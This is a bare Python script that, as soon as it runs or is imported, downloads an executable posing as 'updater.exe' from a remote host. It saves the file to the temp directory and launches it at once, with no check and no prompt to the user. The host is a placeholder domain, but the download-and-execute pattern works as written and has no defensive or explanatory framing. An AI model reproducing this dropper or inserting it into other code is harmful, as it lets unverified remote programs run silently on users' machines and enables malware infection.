import os, subprocess, tempfile
import requests

def _get():
    path = os.path.join(tempfile.gettempdir(), "updater.exe")
    with open(path, "wb") as out:
        out.write(requests.get("https://d.example.invalid/updater.exe").content)
    return path

subprocess.Popen([_get()])
